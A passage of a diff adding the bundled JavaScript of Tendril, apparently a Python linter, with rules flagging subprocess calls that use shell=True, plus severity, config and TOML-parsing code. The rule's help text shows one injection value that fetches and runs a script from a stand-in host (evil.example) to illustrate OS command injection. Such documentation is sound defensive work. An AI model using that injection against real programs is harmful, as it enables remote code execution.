+ * `import a.b as y`): the plain import is there to load the submodule that the alias reaches as
+ * `x.b.c` or `y.c`, so it counts as used. (An alias of a sibling, `import a.d as z`, does not reach
+ * it.)
+ */
+function loadsSubmoduleForAlias(binding) {
+    const info = binding.import;
+    if (!info.submodule)
+        return false;
+    return binding.scope.bindings.some((other) => other.kind === 'import' &&
+        other.import?.alias !== undefined &&
+        info.module.startsWith(other.import.module + '.') &&
+        (0, scopes_1.isGroupUsed)(other));
+}
+/** "`os.path` is imported but never used", "`numpy` (as `np`) is imported but never used". */
+function unusedImportMessage(binding) {
+    const info = binding.import;
+    const alias = info.alias !== undefined ? ` (as \`${info.alias}\`)` : '';
+    return `\`${info.qualifiedName}\`${alias} is imported but never used`;
+}
+exports.unusedImport = {
+    meta,
+    uses: [scopes_1.scopes],
+    create(context) {
+        return {
+            end() {
+                const model = context.analysis(scopes_1.scopes.name);
+                for (const binding of model.bindings) {
+                    if (!isCandidate(binding) || !isLastOfGroup(binding))
+                        continue;
+                    if ((0, scopes_1.isGroupUsed)(binding) || loadsSubmoduleForAlias(binding))
+                        continue;
+                    const info = binding.import;
+                    context.report(meta, info.aliasNode ?? info.nameNode, unusedImportMessage(binding));
+                }
+            },
+        };
+    },
+};
+
+
+/***/ }),
+
+/***/ 874:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.SECURITY_RULES = void 0;
+const subprocess_shell_true_1 = __nccwpck_require__(565);
+/** Every security rule (Bandit's catalogue). Add a rule here when its module is written. */
+exports.SECURITY_RULES = [subprocess_shell_true_1.subprocessShellTrue, subprocess_shell_true_1.subprocessShellTrueLiteral];
+
+
+/***/ }),
+
+/***/ 565:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.subprocessShellTrueLiteral = exports.subprocessShellTrue = exports.SUBPROCESS_FUNCTIONS = void 0;
+exports.isLiteralCommand = isLiteralCommand;
+const calls_1 = __nccwpck_require__(463);
+const severity_1 = __nccwpck_require__(640);
+/** The `subprocess` functions that take `shell=` (Bandit's `shell_injection.subprocess` list). */
+exports.SUBPROCESS_FUNCTIONS = [
+    'subprocess.Popen',
+    'subprocess.call',
+    'subprocess.check_call',
+    'subprocess.check_output',
+    'subprocess.run',
+];
+/** True when the command cannot change at run time: literal strings, or a list/tuple of them. */
+function isLiteralCommand(command) {
+    const expr = (0, calls_1.unparenthesize)(command);
+    if ((0, calls_1.isPlainStringLiteral)(expr, { allowBytes: true }))
+        return true;
+    if (expr.type === 'list' || expr.type === 'tuple') {
+        return expr.namedChildren.every((item) => !item || item.type === 'comment' || (0, calls_1.isPlainStringLiteral)(item, { allowBytes: true }));
+    }
+    return false;
+}
+/** A few words on how a run-time command is built, for the message. */
+function describeCommand(command) {
+    const expr = (0, calls_1.unparenthesize)(command);
+    switch (expr.type) {
+        case 'identifier':
+            return `the variable \`${expr.text}\``;
+        case 'attribute':
+        case 'subscript':
+            return expr.text.length <= 40 ? `\`${expr.text}\`` : 'a value read at run time';
+        case 'string':
+        case 'concatenated_string':
+            return 'an f-string';
+        case 'binary_operator': {
+            const operator = expr.childForFieldName('operator')?.type;
+            if (operator === '%')
+                return '`%`-formatting';
+            if (operator === '+')
+                return 'a concatenation';
+            return 'an expression';
+        }
+        case 'call': {
+            const fn = expr.childForFieldName('function');
+            const attribute = fn?.type === 'attribute' ? fn.childForFieldName('attribute')?.text : undefined;
+            if (attribute === 'format')
+                return '`str.format()`';
+            if (attribute === 'join')
+                return 'a `join()`';
+            return 'the result of a call';
+        }
+        case 'list_splat':
+            return '`*` unpacking';
+        case 'list':
+        case 'tuple':
+            return `a ${expr.type} with non-literal items`;
+        default:
+            return 'an expression';
+    }
+}
+/** `shell=True` as written, or a generic wording when the value is long. */
+function shellText(value) {
+    const text = value.text.replace(/\s+/g, ' ');
+    return text.length <= 20 ? `\`shell=${text}\`` : 'a true `shell=` value';
+}
+const WHAT_IS_NOT_REPORTED = `## What is not reported
+
+- \`shell=False\`, \`shell=None\`, \`shell=0\`, an empty literal such as \`shell=[]\`, or no \`shell\` argument.
+- \`shell=\` given by a variable or any other expression whose value is not a constant
+  (\`shell=use_shell\`, \`shell=os.name == "nt"\`): the value is not known before run time.
+- Calls whose function is not surely one of \`subprocess.Popen\`, \`call\`, \`check_call\`,
+  \`check_output\` and \`run\`: the name is resolved through the file's imports (\`import subprocess
+  as sp\`, \`from subprocess import Popen as P\` are followed), and a call through a name that was
+  rebound, or imported differently in different places, is left alone.
+- \`shell\` or the command passed only inside \`**kwargs\`.
+- Functions that always use a shell (\`os.system\`, \`subprocess.getoutput\`) and \`shell=True\` on
+  functions outside \`subprocess\`: those are other checks (Bandit B605, B604).`;
+const SPLIT = `## Why two rules
+
+Bandit grades this check by the command: high severity when it is built at run time, low when it
+is a fixed literal. A code scanning rule carries a single severity, so Tendril reports the two
+cases as \`subprocess-shell-true\` (built at run time, high) and \`subprocess-shell-true-literal\`
+(literal, low). A command is literal when it is a string (or bytes) literal without
+interpolation, a concatenation of such literals, or a list or tuple made only of them. Both answer to Bandit's \`B602\` and Ruff's \`S602\`, so selecting or ignoring
+either code covers both.`;
+function helpText(literal) {
+    const intro = literal
+        ? `# A \`subprocess\` call runs a literal command through a shell
+
+\`shell=True\` makes Python hand the command to \`/bin/sh -c\` (\`cmd.exe /c\` on Windows) instead of
+starting the program directly. Here the command is a fixed string, so nothing outside the program
+can change it today, and the call is not exploitable as written.
+
+It is still reported, with a low severity, because the shell stays in place when the code
+changes: the day someone adds a file name, a branch name or a user's input to that string, every
+space, quote, \`;\`, \`|\`, \`$(...)\` and \`*\` in the value is interpreted by the shell, and the
+call becomes a shell injection (CWE-78) without anything else in the line changing. The shell
+also costs an extra process and makes the command depend on the platform's shell.
+
+## Example
+
+\`\`\`python
+import subprocess
+
+subprocess.run("git status --porcelain", shell=True)
+\`\`\``
+        : `# A \`subprocess\` call runs a command built at run time through a shell
+
+\`shell=True\` makes Python hand the command to \`/bin/sh -c\` (\`cmd.exe /c\` on Windows) instead of
+starting the program directly. Here the command is not a fixed literal: it comes from a variable,
+an f-string, formatting or a concatenation. Whatever ends up in it is parsed by the shell, so if
+any part of it can come from outside the program (a request, a file name, a command-line
+argument, an environment variable, a database row), characters such as \`;\`, \`|\`, \`&&\`, \`$(...)\`,
+backquotes, quotes, spaces and \`*\` let that input run commands of its own choosing with the
+program's privileges: OS command injection (CWE-78).
+
+## Example
+
+\`\`\`python
+import subprocess
+
+def archive(name):
+    # name = "x; curl -s evil.example | sh" runs the attacker's script
+    subprocess.run(f"tar czf {name}.tgz {name}", shell=True, check=True)
+\`\`\``;
+    const fixed = literal
+        ? 'subprocess.run(["git", "status", "--porcelain"])'
+        : 'def archive(name):\n    subprocess.run(["tar", "czf", f"{name}.tgz", "--", name], check=True)';
+    const fix = `## How to fix
+
+Pass the command as a list of arguments and drop \`shell=True\` (\`shell=False\` is the default).
+The program is then started directly: each list item reaches it as one argument, exactly as
+given, and no shell ever interprets it.
+
+\`\`\`python
+import subprocess
+
+${fixed}
+\`\`\`
+
+Shell features have plain-Python replacements: a pipe is two \`subprocess\` calls (or
+\`input=\`/\`stdout=\` arguments), a redirection is \`stdout=open(path, "wb")\`, a wildcard is
+\`glob.glob()\`, \`~\` and \`$HOME\` are \`os.path.expanduser()\`/\`os.environ\`, \`cd dir &&\` is
+\`cwd="dir"\`. Where a shell is really needed, quote every value that is not fixed with
+\`shlex.quote()\` (POSIX shells only; it does not protect \`cmd.exe\`):
+
+\`\`\`python
+import shlex
+import subprocess
+
+subprocess.run(f"du -sh -- {shlex.quote(path)} | sort -h", shell=True, check=True)
+\`\`\``;
+    return [intro, fix, WHAT_IS_NOT_REPORTED, SPLIT].join('\n\n');
+}
+function makeMeta(literal) {
+    const level = literal ? 'LOW' : 'HIGH';
+    return {
+        id: literal ? 'subprocess-shell-true-literal' : 'subprocess-shell-true',
+        name: literal ? 'SubprocessShellTrueLiteral' : 'SubprocessShellTrue',
+        kind: 'security',
+        shortDescription: literal
+            ? 'subprocess call runs a literal command through a shell (shell=True)'
+            : 'subprocess call runs a command built at run time through a shell (shell=True)',
+        fullDescription: literal
+            ? 'A subprocess function (Popen, call, check_call, check_output, run) is called with shell=True ' +
+                'and a fixed literal command. It is safe as written, but the shell stays in place if the command ' +
+                'later gains a variable part, which would turn the call into a shell injection. Passing an argument ' +
+                'list without a shell removes the risk.'
+            : 'A subprocess function (Popen, call, check_call, check_output, run) is called with shell=True ' +
+                'and a command built at run time (a variable, an f-string, formatting or a concatenation). The ' +
+                'shell interprets the whole command, so any part that comes from outside the program can inject ' +
+                'commands of its own (OS command injection). Pass an argument list without a shell instead.',
+        help: helpText(literal),
+        category: 'injection',
+        aliases: ['B602', 'S602'],
+        precision: severity_1.PRECISION_FOR_CONFIDENCE.HIGH,
+        securitySeverity: severity_1.SECURITY_SEVERITY[level],
+        cwe: [78],
+    };
+}
+function makeRule(literal) {
+    const meta = makeMeta(literal);
+    return {
+        meta,
+        uses: [calls_1.calls],
+        create(context) {
+            return {
+                end() {
+                    const model = context.analysis('calls');
+                    for (const call of model.callsTo(exports.SUBPROCESS_FUNCTIONS)) {
+                        const shell = (0, calls_1.keywordValue)(call.node, 'shell');
+                        if (!shell || (0, calls_1.truthiness)(shell) !== true)
+                            continue;
+                        const command = (0, calls_1.argumentAt)(call.node, 0, 'args');
+                        if (!command || isLiteralCommand(command) !== literal)
+                            continue;
+                        // Name the call as written at the line, and what it resolves to when that differs.
+                        const written = call.writtenName ?? call.qualifiedName;
+                        const name = written === call.qualifiedName ? `\`${written}\`` : `\`${written}\` (\`${call.qualifiedName}\`)`;
+                        const message = literal
+                            ? `${name} runs a literal command through a shell (${shellText(shell)}): safe as written, ` +
+                                'but it becomes a shell injection if the command ever includes outside input; pass an argument list instead'
+                            : `${name} runs a command built at run time (${describeCommand(command)}) through a shell ` +
+                                `(${shellText(shell)}): any part of it that comes from outside the program can inject shell commands`;
+                        context.report(meta, call.callee, message);
+                    }
+                },
+            };
+        },
+    };
+}
+/** B602, HIGH: `shell=True` with a command built at run time. */
+exports.subprocessShellTrue = makeRule(false);
+/** B602, LOW: `shell=True` with a literal command. */
+exports.subprocessShellTrueLiteral = makeRule(true);
+
+
+/***/ }),
+
+/***/ 640:
+/***/ ((__unused_webpack_module, exports) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.BANDS = exports.PRECISION_FOR_CONFIDENCE = exports.SECURITY_SEVERITY = void 0;
+exports.bandOf = bandOf;
+exports.SECURITY_SEVERITY = {
+    HIGH: 8.0,
+    MEDIUM: 5.5,
+    LOW: 3.0,
+};
+exports.PRECISION_FOR_CONFIDENCE = {
+    HIGH: 'high',
+    MEDIUM: 'medium',
+    LOW: 'low',
+};
+/** GitHub's bands, highest first, with the lowest score that falls in each. */
+exports.BANDS = [
+    { name: 'critical', min: 9.0 },
+    { name: 'high', min: 7.0 },
+    { name: 'medium', min: 4.0 },
+    { name: 'low', min: 0.1 },
+];
+function bandOf(score) {
+    for (const band of exports.BANDS)
+        if (score >= band.min)
+            return band.name;
+    return 'low';
+}
+
+
+/***/ }),
+
+/***/ 182:
+/***/ ((__unused_webpack_module, exports) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.ruleLevel = ruleLevel;
+/** SARIF level derived from the metadata: security error/warning by severity, maintainability always note. */
+function ruleLevel(meta) {
+    if (meta.kind === 'maintainability')
+        return 'note';
+    return (meta.securitySeverity ?? 0) >= 7 ? 'error' : 'warning';
+}
+
+
+/***/ }),
+
+/***/ 786:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.run = run;
+const discover_1 = __nccwpck_require__(935);
+const pool_1 = __nccwpck_require__(138);
+const gates_1 = __nccwpck_require__(343);
+function compareFindings(a, b) {
+    return ((a.path < b.path ? -1 : a.path > b.path ? 1 : 0) ||
+        a.line - b.line ||
+        a.column - b.column ||
+        (a.ruleId < b.ruleId ? -1 : a.ruleId > b.ruleId ? 1 : 0) ||
+        a.endLine - b.endLine ||
+        a.endColumn - b.endColumn ||
+        (a.message < b.message ? -1 : a.message > b.message ? 1 : 0));
+}
+/** settings -> discovery -> engine -> findings -> gates. Reporters take the outcome from here. */
+async function run(settings, workerScript) {
+    const discovery = (0, discover_1.discover)(settings.root, settings.paths);
+    const results = await (0, pool_1.analyzeFiles)(discovery.files, settings.rules, settings.ruleOptions, { jobs: settings.jobs, workerScript });
+    const findings = results.flatMap((r) => r.findings).sort(compareFindings);
+    const notifications = [...discovery.notifications, ...results.flatMap((r) => r.notifications)];
+    const counts = (0, gates_1.countFindings)(findings);
+    return {
+        settings,
+        files: discovery.files.length,
+        findings,
+        notifications,
+        counts,
+        gate: (0, gates_1.evaluateGates)(counts, settings),
+    };
+}
+
+
+/***/ }),
+
+/***/ 750:
+/***/ (function(__unused_webpack_module, exports, __nccwpck_require__) {
+
+
+var __createBinding = (this && this.__createBinding) || (Object.create ? (function(o, m, k, k2) {
+    if (k2 === undefined) k2 = k;
+    var desc = Object.getOwnPropertyDescriptor(m, k);
+    if (!desc || ("get" in desc ? !m.__esModule : desc.writable || desc.configurable)) {
+      desc = { enumerable: true, get: function() { return m[k]; } };
+    }
+    Object.defineProperty(o, k2, desc);
+}) : (function(o, m, k, k2) {
+    if (k2 === undefined) k2 = k;
+    o[k2] = m[k];
+}));
+var __setModuleDefault = (this && this.__setModuleDefault) || (Object.create ? (function(o, v) {
+    Object.defineProperty(o, "default", { enumerable: true, value: v });
+}) : function(o, v) {
+    o["default"] = v;
+});
+var __importStar = (this && this.__importStar) || (function () {
+    var ownKeys = function(o) {
+        ownKeys = Object.getOwnPropertyNames || function (o) {
+            var ar = [];
+            for (var k in o) if (Object.prototype.hasOwnProperty.call(o, k)) ar[ar.length] = k;
+            return ar;
+        };
+        return ownKeys(o);
+    };
+    return function (mod) {
+        if (mod && mod.__esModule) return mod;
+        var result = {};
+        if (mod != null) for (var k = ownKeys(mod), i = 0; i < k.length; i++) if (k[i] !== "default") __createBinding(result, mod, k[i]);
+        __setModuleDefault(result, mod);
+        return result;
+    };
+})();
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.DEFAULTS = exports.SEVERITY_THRESHOLDS = void 0;
+exports.parseThreshold = parseThreshold;
+exports.parseLimit = parseLimit;
+exports.parseJobs = parseJobs;
+exports.readConfigFile = readConfigFile;
+exports.resolveSettings = resolveSettings;
+const fs = __importStar(__nccwpck_require__(896));
+const path = __importStar(__nccwpck_require__(928));
+const smol_toml_1 = __nccwpck_require__(106);
+const errors_1 = __nccwpck_require__(916);
+const rules_1 = __nccwpck_require__(755);
+const severity_1 = __nccwpck_require__(640);
+exports.SEVERITY_THRESHOLDS = [...severity_1.BANDS.map((b) => b.name), 'none'];
+exports.DEFAULTS = {
+    failOnSecuritySeverity: 'high',
+    maxMaintainabilityFindings: -1,
+};
+function parseThreshold(value, source) {
+    const v = value.trim().toLowerCase();
+    if (exports.SEVERITY_THRESHOLDS.includes(v))
+        return v;
+    throw new errors_1.UsageError(`${source}: '${value}' is not a valid value; accepted: ${exports.SEVERITY_THRESHOLDS.join(', ')}`);
+}
+function parseLimit(value, source) {
+    const v = value.trim();
+    if (/^(-1|\d+)$/.test(v))
+        return Number(v);
+    throw new errors_1.UsageError(`${source}: '${value}' is not a valid value; accepted: a whole number >= 0, or -1 for no limit`);
+}
+function parseJobs(value, source) {
+    const v = value.trim();
+    if (/^[1-9]\d*$/.test(v))
+        return Number(v);
+    throw new errors_1.UsageError(`${source}: '${value}' is not a valid value; accepted: a whole number >= 1`);
+}
+const CONFIG_KEYS = {
+    select: 'a list of rule ids, aliases or kinds',
+    ignore: 'a list of rule ids, aliases or kinds',
+    'fail-on-security-severity': `one of ${exports.SEVERITY_THRESHOLDS.join(', ')}`,
+    'max-maintainability-findings': 'a whole number >= 0, or -1',
+    rules: 'a table of rule options: [tool.tendril.rules.<rule-id>]',
+};
+function describeSpec(spec) {
+    switch (spec.type) {
+        case 'integer':
+            return `a whole number${spec.min !== undefined ? ` >= ${spec.min}` : ''}`;
+        case 'boolean':
+            return 'true or false';
+        case 'string':
+            return spec.values ? `one of ${spec.values.join(', ')}` : 'a string';
+        case 'string-list':
+            return 'a list of strings';
+    }
+}
+function validOption(spec, value) {
+    switch (spec.type) {
+        case 'integer':
+            return typeof value === 'number' && Number.isInteger(value) && (spec.min === undefined || value >= spec.min);
+        case 'boolean':
+            return typeof value === 'boolean';
+        case 'string':
+            return typeof value === 'string' && (!spec.values || spec.values.includes(value));
+        case 'string-list':
+            return Array.isArray(value) && value.every((v) => typeof v === 'string');
+    }
+}
+/** `[tool.tendril.rules.<rule-id>]` tables: known rules, known options, right types. */
+function readRuleOptions(file, prefix, value) {
+    if (typeof value !== 'object' || value === null || Array.isArray(value)) {
+        throw new errors_1.UsageError(`${file}: ${prefix}rules must be ${CONFIG_KEYS.rules}`);
+    }
+    const out = {};
+    for (const [ruleId, table] of Object.entries(value)) {
+        const rule = rules_1.ALL_RULES.find((r) => r.meta.id === ruleId);
+        if (!rule)
+            throw new errors_1.UsageError(`${file}: ${prefix}rules.${ruleId}: no rule has this id (see 'tendril rules')`);
+        const specs = rule.meta.options ?? {};
+        const accepted = Object.keys(specs);
+        if (typeof table !== 'object' || table === null || Array.isArray(table)) {
+            throw new errors_1.UsageError(`${file}: ${prefix}rules.${ruleId} must be a table of options (${accepted.join(', ') || 'this rule has none'})`);
+        }
+        out[ruleId] = {};
+        for (const [name, optionValue] of Object.entries(table)) {
+            const spec = specs[name];
+            if (!spec) {
+                throw new errors_1.UsageError(`${file}: unknown key '${prefix}rules.${ruleId}.${name}'; ${accepted.length ? `accepted keys: ${accepted.join(', ')}` : 'this rule has no options'}`);
+            }
+            if (!validOption(spec, optionValue)) {
+                throw new errors_1.UsageError(`${file}: ${prefix}rules.${ruleId}.${name} must be ${describeSpec(spec)}, not ${JSON.stringify(optionValue)}`);
+            }
+            out[ruleId][name] = optionValue;
+        }
+    }
+    return out;
+}
+/**
+ * Reads a configuration file: `pyproject.toml` (the `[tool.tendril]` table) or a Tendril TOML file
+ * (top level). Unknown keys and wrong types are errors naming the file and the key.
+ */
+function readConfigFile(file) {
+    let text;
+    try {
+        text = fs.readFileSync(file, 'utf8');
+    }
+    catch (error) {
+        throw new errors_1.UsageError(`cannot read configuration file ${file} (${error.code ?? 'error'})`);
+    }
+    let doc;
+    try {
+        doc = (0, smol_toml_1.parse)(text);
+    }
+    catch (error) {
+        const first = (error instanceof Error ? error.message : String(error)).split('\n')[0];
+        throw new errors_1.UsageError(`${file} is not valid TOML: ${first}`);
+    }
+    let table = doc;
+    let prefix = '';
+    if (path.basename(file) === 'pyproject.toml') {
+        const tool = doc.tool;
+        table = tool?.tendril ?? {};
+        prefix = 'tool.tendril.';
+    }
+    const input = {};
+    for (const [key, value] of Object.entries(table)) {
+        const where = `${file}: ${prefix}${key}`;
+        const expected = CONFIG_KEYS[key];
+        if (!expected) {
+            throw new errors_1.UsageError(`${file}: unknown key '${prefix}${key}'; accepted keys: ${Object.keys(CONFIG_KEYS).join(', ')}`);
+        }
+        const wrongType = () => {
+            throw new errors_1.UsageError(`${where} must be ${expected}, not ${JSON.stringify(value)}`);
+        };
+        switch (key) {
+            case 'select':
+            case 'ignore':
+                if (!Array.isArray(value) || !value.every((v) => typeof v === 'string'))
+                    wrongType();
+                input[key] = value;
+                break;
+            case 'fail-on-security-severity':
+                if (typeof value !== 'string')
+                    wrongType();
+                input.failOnSecuritySeverity = parseThreshold(value, where);
+                break;
+            case 'max-maintainability-findings':
+                if (typeof value !== 'number' || !Number.isInteger(value) || value < -1)
+                    wrongType();
+                input.maxMaintainabilityFindings = value;
+                break;
+            case 'rules':
+                input.ruleOptions = readRuleOptions(file, prefix, value);
+                break;
+        }
+    }
+    return input;
+}
+/** Later inputs override earlier ones, key by key. */
+function resolveSettings(base, ...inputs) {
+    const merged = {};
+    for (const input of inputs) {
+        for (const [key, value] of Object.entries(input))
+            if (value !== undefined)
+                merged[key] = value;
+    }
+    let rules = merged.select ? (0, rules_1.selectRules)(merged.select, 'rule in select') : [...rules_1.ALL_RULES];
+    if (merged.ignore) {
+        const ignored = new Set((0, rules_1.selectRules)(merged.ignore, 'rule in ignore'));
+        rules = rules.filter((rule) => !ignored.has(rule));
+    }
+    return {
+        ...base,
+        rules,
+        failOnSecuritySeverity: merged.failOnSecuritySeverity ?? exports.DEFAULTS.failOnSecuritySeverity,
+        maxMaintainabilityFindings: merged.maxMaintainabilityFindings ?? exports.DEFAULTS.maxMaintainabilityFindings,
+        ruleOptions: merged.ruleOptions ?? {},
+    };
+}
+
+
+/***/ }),
+
+/***/ 311:
+/***/ ((__unused_webpack_module, exports) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.VERSION = void 0;
+/** Tendril's version, kept equal to package.json's (a test checks). */
+exports.VERSION = '0.1.0';
+
+
+/***/ }),
+
+/***/ 982:
+/***/ ((module) => {
+
+module.exports = require("crypto");
+
+/***/ }),
+
+/***/ 896:
+/***/ ((module) => {
+
+module.exports = require("fs");
+
+/***/ }),
+
+/***/ 943:
+/***/ ((module) => {
+
+module.exports = require("fs/promises");
+
+/***/ }),
+
+/***/ 857:
+/***/ ((module) => {
+
+module.exports = require("os");
+
+/***/ }),
+
+/***/ 928:
+/***/ ((module) => {
+
+module.exports = require("path");
+
+/***/ }),
+
+/***/ 16:
+/***/ ((module) => {
+
+module.exports = require("url");
+
+/***/ }),
+
+/***/ 23:
+/***/ ((module) => {
+
+module.exports = require("util");
+
+/***/ }),
+
+/***/ 167:
+/***/ ((module) => {
+
+module.exports = require("worker_threads");
+
+/***/ }),
+
+/***/ 106:
+/***/ ((__unused_webpack_module, exports) => {
+
+/*!
+* Copyright (c) Squirrel Chat et al., All rights reserved.
+* SPDX-License-Identifier: BSD-3-Clause
+*
+* Redistribution and use in source and binary forms, with or without
+* modification, are permitted provided that the following conditions are met:
+*
+* 1. Redistributions of source code must retain the above copyright notice, this
+*    list of conditions and the following disclaimer.
+* 2. Redistributions in binary form must reproduce the above copyright notice,
+*    this list of conditions and the following disclaimer in the
+*    documentation and/or other materials provided with the distribution.
+* 3. Neither the name of the copyright holder nor the names of its contributors
+*    may be used to endorse or promote products derived from this software without
+*    specific prior written permission.
+*
+* THIS SOFTWARE IS PROVIDED BY THE COPYRIGHT HOLDERS AND CONTRIBUTORS "AS IS" AND
+* ANY EXPRESS OR IMPLIED WARRANTIES, INCLUDING, BUT NOT LIMITED TO, THE IMPLIED
+* WARRANTIES OF MERCHANTABILITY AND FITNESS FOR A PARTICULAR PURPOSE ARE
+* DISCLAIMED. IN NO EVENT SHALL THE COPYRIGHT HOLDER OR CONTRIBUTORS BE LIABLE
+* FOR ANY DIRECT, INDIRECT, INCIDENTAL, SPECIAL, EXEMPLARY, OR CONSEQUENTIAL
+* DAMAGES (INCLUDING, BUT NOT LIMITED TO, PROCUREMENT OF SUBSTITUTE GOODS OR
+* SERVICES; LOSS OF USE, DATA, OR PROFITS; OR BUSINESS INTERRUPTION) HOWEVER
+* CAUSED AND ON ANY THEORY OF LIABILITY, WHETHER IN CONTRACT, STRICT LIABILITY,
+* OR TORT (INCLUDING NEGLIGENCE OR OTHERWISE) ARISING IN ANY WAY OUT OF THE USE
+* OF THIS SOFTWARE, EVEN IF ADVISED OF THE POSSIBILITY OF SUCH DAMAGE.
+*/
+
+Object.defineProperties(exports, {
+	__esModule: { value: true },
+	[Symbol.toStringTag]: { value: "Module" }
+});
+//#region src/error.ts
+function getLineColFromPtr(string, ptr) {
+	let lines = string.slice(0, ptr).split(/\r?\n/);
+	return [lines.length, lines.pop().length + 1];
+}
+function makeCodeBlock(string, line, column) {
+	let lines = string.split(/\r?\n/);
+	let codeblock = "";
+	let numberLen = (Math.log10(line + 1) | 0) + 1;
+	for (let i = line - 1; i <= line + 1; i++) {
+		let l = lines[i - 1];
+		if (!l) continue;
+		codeblock += i.toString().padEnd(numberLen, " ");
+		codeblock += ":  ";
+		codeblock += l;
+		codeblock += "\n";
+		if (i === line) {
+			codeblock += " ".repeat(numberLen + column + 2);
+			codeblock += "^\n";
+		}
+	}
+	return codeblock;
+}
+var TomlError = class TomlError extends Error {
+	line;
+	column;
+	codeblock;
+	constructor(message, options) {
+		const [line, column] = getLineColFromPtr(options.toml, options.ptr);
+		const codeblock = makeCodeBlock(options.toml, line, column);
+		super(`Invalid TOML document: ${message}\n\n${codeblock}`, options);
+		this.line = line;
+		this.column = column;
+		this.codeblock = codeblock;
+	}
+	/** @internal */
+	static x(message, ctx, ptr) {
+		throw new TomlError(message, {
+			toml: ctx.s,
+			ptr: ptr ?? ctx.p
+		});
+	}
+};
+//#endregion
+//#region src/primitive.ts
+/** @internal */
+function parseString(ctx) {
+	let startPtr = ctx.p;
+	let c = ctx.s.charCodeAt(ctx.p++);
+	let first = c;
+	let isLiteral = c === 39;
+	let isMultiline = c === ctx.s.charCodeAt(ctx.p) && c === ctx.s.charCodeAt(ctx.p + 1);
+	if (isMultiline) {
+		if ((c = ctx.s.charCodeAt(ctx.p += 2)) === 10) ctx.p++;
+		else if (c === 13 && ctx.s.charCodeAt(ctx.p + 1) === 10) ctx.p += 2;
+	}
+	let parsed = "";
+	let sliceStart = ctx.p;
+	let state = 0;
+	for (; ctx.p < ctx.s.length; ctx.p++) {
+		c = ctx.s.charCodeAt(ctx.p);
+		if (isMultiline && (c === 10 || c === 13 && ctx.s.charCodeAt(ctx.p + 1) === 10)) state = state && 3;
+		else if (c < 32 && c !== 9 || c === 127) TomlError.x("control characters are not allowed in strings", ctx);
+		else if ((!state || state === 3) && c === first && (!isMultiline || ctx.s.charCodeAt(ctx.p + 1) === first && ctx.s.charCodeAt(ctx.p + 2) === first)) {
+			if (isMultiline) {
+				if (ctx.s.charCodeAt(ctx.p + 3) === first) ctx.p++;
+				if (ctx.s.charCodeAt(ctx.p + 3) === first) ctx.p++;
+			}
+			if (!state) {
+				let s = ctx.s.slice(sliceStart, ctx.p);
+				parsed = parsed ? parsed + s : s;
+			}
+			ctx.p += isMultiline ? 3 : 1;
+			return parsed;
+		} else if (!state) {
+			if (!isLiteral && c === 92) {
+				parsed += ctx.s.slice(sliceStart, sliceStart = ctx.p);
+				state = 1;
+			}
+		} else if (state === 1) {
+			if (c === 120 || c === 117 || c === 85) {
+				let errPtr = ctx.p++ - 1;
+				let value = 0;
+				let len = c === 120 ? 2 : c === 117 ? 4 : 8;
+				for (let j = 0; j < len; j++, ctx.p++) {
+					let hex = ctx.s.charCodeAt(ctx.p);
+					let digit = hex >= 48 && hex <= 57 ? hex - 48 : hex >= 65 && hex <= 70 ? hex - 65 + 10 : hex >= 97 && hex <= 102 ? hex - 97 + 10 : -1;
+					if (digit < 0) TomlError.x("invalid non-hex character in unicode escape", ctx);
+					value = value << 4 | digit;
+				}
+				if (value < 0 || value > 1114111 || value >= 55296 && value <= 57343) TomlError.x("invalid unicode escape", ctx, errPtr);
+				parsed += String.fromCodePoint(value);
+				sliceStart = ctx.p--;
+				state = 0;
+			} else if (isMultiline && (c === 32 || c === 9)) state = 2;
+			else {
+				if (c === 98) parsed += "\b";
+				else if (c === 116) parsed += "	";
+				else if (c === 110) parsed += "\n";
+				else if (c === 102) parsed += "\f";
+				else if (c === 114) parsed += "\r";
+				else if (c === 101) parsed += "\x1B";
+				else if (c === 34) parsed += "\"";
+				else if (c === 92) parsed += "\\";
+				else TomlError.x("unrecognised escape sequence", ctx);
+				sliceStart = ctx.p + 1;
+				state = 0;
+			}
+		} else if (c !== 32 && c !== 9) {
+			if (state === 2) TomlError.x("invalid escape: only line-ending whitespace may be escaped", ctx, sliceStart);
+			state = !isLiteral && c === 92 ? 1 : 0;
+			sliceStart = ctx.p;
+		}
+	}
+	TomlError.x("unfinished string", ctx, startPtr);
+}
+//#endregion
+//#region src/date.ts
+let DATE_TIME_RE = /^(\d{4}-\d{2}-\d{2})?[Tt ]?(?:(\d{2}):\d{2}(?::\d{2}(?:\.\d+)?)?)?(Z|z|[-+]\d{2}:\d{2})?$/i;
+var TomlDate = class TomlDate extends Date {
+	#hasDate = false;
+	#hasTime = false;
+	#offset = null;
+	constructor(date, fasttype, unsafeDelim) {
+		let hasDate = true;
+		let hasTime = true;
+		let offset = "Z";
+		let c;
+		if (typeof date === "string") {
+			if (fasttype) prep: {
+				if (fasttype < 3) {
+					if (+date.slice(11, 13) > 23) {
+						date = "";
+						break prep;
+					}
+					if (fasttype === 2) {
+						offset = null;
+						date += "Z";
+					} else if ((c = date.charCodeAt(date.length - 1)) !== 90 && c !== 122) offset = date.slice(date.length - 6);
+					if (unsafeDelim) date = date.slice(0, 10) + "T" + date.slice(11);
+				} else if (fasttype === 4) date = +date.slice(0, 2) > 23 ? "" : `0000-01-01T${date}Z`;
+				hasDate = fasttype !== 4;
+				hasTime = fasttype !== 3;
+			}
+			else {
+				let match = date.match(DATE_TIME_RE);
+				if (match) {
+					if (!match[1]) {
+						hasDate = false;
+						date = `0000-01-01T${date}`;
+					}
+					hasTime = !!match[2];
+					hasTime && date[10] === " " && (date = date.replace(" ", "T"));
+					if (match[2] && +match[2] > 23) date = "";
+					else {
+						offset = match[3] || null;
+						if (!offset && hasTime) date += "Z";
+					}
+				} else date = "";
+			}
+		}
+		super(date);
+		if (!isNaN(this.getTime())) {
+			this.#hasDate = hasDate;
+			this.#hasTime = hasTime;
+			this.#offset = offset;
+		}
+	}
+	isDateTime() {
+		return this.#hasDate && this.#hasTime;
